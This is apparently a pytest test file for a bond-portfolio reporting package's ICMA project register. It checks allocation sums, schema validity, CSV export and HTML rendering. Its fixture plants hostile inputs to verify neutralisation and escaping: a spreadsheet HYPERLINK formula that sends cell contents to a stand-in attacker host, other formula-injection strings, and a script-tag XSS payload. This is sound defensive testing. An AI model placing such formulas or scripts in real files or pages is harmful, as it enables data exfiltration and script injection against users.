"""The ICMA project register (reporting/register.py): its entries, the CSV and the JSON schema."""

from __future__ import annotations

import csv
import io
import json
from datetime import date
from decimal import Decimal
from pathlib import Path
from typing import Any

import polars as pl
import pytest

from conftest import make_inputs
from lanportfolj.reporting.html import render_html
from lanportfolj.reporting.json import render_json
from lanportfolj.reporting.model import compute_report, report_to_dict
from lanportfolj.reporting.register import (
    ProjectFacts,
    build_register,
    register_csv,
    register_entries,
)
from report_schema_check import validate

pytestmark = pytest.mark.unit

SCHEMA = Path(__file__).resolve().parents[3] / "docs" / "report-schema.json"
HOSTILE_BORROWER = "=1+1"
HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?"&A1,"click")'
MARKUP = "<script>alert(1)</script><b>Cedertuna</b>"


@pytest.fixture
def data() -> dict[str, Any]:
    """The fixture's report with hostile text in a borrower, a title and a target group, and the
    register built with facts."""
    inputs = make_inputs()
    loans = inputs.loans.with_columns(
        borrower=pl.when(pl.col("reference") == "SH-2023-001")
        .then(pl.lit(HOSTILE_BORROWER))
        .otherwise(pl.col("borrower")),
        title=pl.when(pl.col("reference") == "SH-2022-002")
        .then(pl.lit(HOSTILE_TITLE))
        .otherwise(pl.col("title")),
    )
    report = report_to_dict(compute_report(make_inputs(loans=loans)))
    facts = {
        "SH-2023-001": ProjectFacts(
            approval_date=date(2023, 2, 1),
            target_group_who=MARKUP,
            target_group_where="-Alby",
            target_group_size="@1 200 hushåll",
            illustrative=True,
        )
    }
    report["register"] = build_register(report, facts)
    return report


def test_one_entry_per_pool_loan_with_its_indicators(data: dict[str, Any]) -> None:
    entries = register_entries(data)
    loans = list(data["allocation"]["loans"])
    assert [e["reference"] for e in entries] == [loan["reference"] for loan in loans]
    per_loan = list(data["impact"]["per_loan"])
    for entry in entries:
        mine = [row for row in per_loan if row["loan"] == entry["reference"]]
        assert [i["indicator"] for i in entry["indicators"]] == [r["indicator"] for r in mine]
        for item, row in zip(entry["indicators"], mine, strict=True):
            assert item["baseline_value"] == row["baseline_value"]
            assert item["reported_value"] == row["latest_value"]
            assert item["target_value"] == row["target_value"]
            assert item["scope"] == "whole_project"
    first = next(e for e in entries if e["reference"] == "SH-2023-001")
    assert first["approval_date"] == "2023-02-01" and first["illustrative"] is True


def test_allocated_parts_add_up_to_the_bonds_allocated_amount(data: dict[str, Any]) -> None:
    entries = register_entries(data)
    total = sum((Decimal(e["allocated"]) for e in entries), Decimal(0))
    assert total == Decimal(data["allocation"]["summary"]["allocated"])
    # pro rata: the loan with the larger outstanding amount gets the larger part
    by_outstanding = sorted(entries, key=lambda e: Decimal(e["outstanding_sek"]))
    parts = [Decimal(e["allocated"]) for e in by_outstanding]
    assert parts == sorted(parts)


def test_register_json_matches_the_schema(data: dict[str, Any]) -> None:
    schema = json.loads(SCHEMA.read_text(encoding="utf-8"))
    document = json.loads(render_json(data))
    assert len(document["register"]) == len(list(data["allocation"]["loans"]))
    assert validate(document, schema, schema, "$") == []


def test_a_report_frozen_without_a_register_still_has_one(data: dict[str, Any]) -> None:
    frozen = json.loads(render_json(data))
    del frozen["register"]
    rebuilt = register_entries(frozen)
    assert [e["reference"] for e in rebuilt] == [e["reference"] for e in data["register"]]
    assert all(e["approval_date"] is None for e in rebuilt)  # the facts are not in the dict


@pytest.mark.parametrize("lang", ["sv", "en"])
def test_register_csv_neutralises_formulas_and_keeps_markup_as_text(
    data: dict[str, Any], lang: str
) -> None:
    content = register_csv(data, lang)
    assert content.startswith(b"\xef\xbb\xbf")
    rows = list(
        csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";" if lang == "sv" else ",")
    )
    header, body = rows[0], rows[1:]
    cells = [cell for row in body for cell in row]
    # every text that starts like a formula gets the quote; nothing else starts so
    for hostile in (HOSTILE_BORROWER, HOSTILE_TITLE, "-Alby", "@1 200 hushåll"):
        assert f"'{hostile}" in cells, hostile
        assert hostile not in cells, hostile
    assert not [c for c in cells if c[:1] in ("=", "+", "@")]
    assert MARKUP in cells  # CSV is text: markup is a plain cell, never interpreted
    # one row per project and indicator; numbers exact with the locale's decimal mark
    pairs = sum(len(e["indicators"]) or 1 for e in data["register"])
    assert len(body) == pairs
    allocated = header.index(
        "Allokerat till obligationen (EUR)" if lang == "sv" else "Allocated to the bond (EUR)"
    )
    first = data["register"][0]["allocated"]
    assert body[0][allocated] == (first.replace(".", ",") if lang == "sv" else first)
    # categories by name, not code
    assert "health_education" not in cells


def test_register_section_escapes_markup_on_the_page(data: dict[str, Any]) -> None:
    page = render_html(data, plotly_js="url:/static/plotly.min.js", lang="en")
    assert 'id="register"' in page and 'id="table-register"' in page
    assert "<script>alert(1)</script>" not in page
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page


def test_register_json_written_by_polars_is_what_json_dumps_writes(data: dict[str, Any]) -> None:
    """The register's frame is written by polars (its indicators as objects); the bytes are those
    of ``json.dumps`` of the same entries, hostile texts included."""
    written = render_json(data)
    document = json.loads(written)
    again = json.dumps(document, sort_keys=True, ensure_ascii=False, separators=(",", ":"))
    assert written == (again + "\n").encode("utf-8")
    entry = next(e for e in document["register"] if e["reference"] == "SH-2023-001")
    assert entry["target_group_who"] == MARKUP and entry["borrower"] == HOSTILE_BORROWER
    assert entry["indicators"] and set(entry["indicators"][0]) == {
        "aggregation", "baseline_value", "baseline_year", "expected_value",
        "financed_share_value", "indicator", "reported_this_year", "reported_value",
        "reported_year", "scope", "target_value", "target_year",
    }  # fmt: skip


def test_an_empty_pool_has_an_empty_register(data: dict[str, Any]) -> None:
    frozen = json.loads(render_json(data))
    frozen["allocation"]["loans"] = []
    frozen["impact"]["per_loan"] = []
    del frozen["register"]
    assert register_entries(frozen) == []
    header = register_csv(frozen, "en").decode("utf-8-sig").splitlines()
    assert len(header) == 1 and header[0].startswith("Reference,Borrower")
    blank = report_to_dict(compute_report(make_inputs(loans=make_inputs().loans.head(0))))
    assert list(build_register(blank)) == []
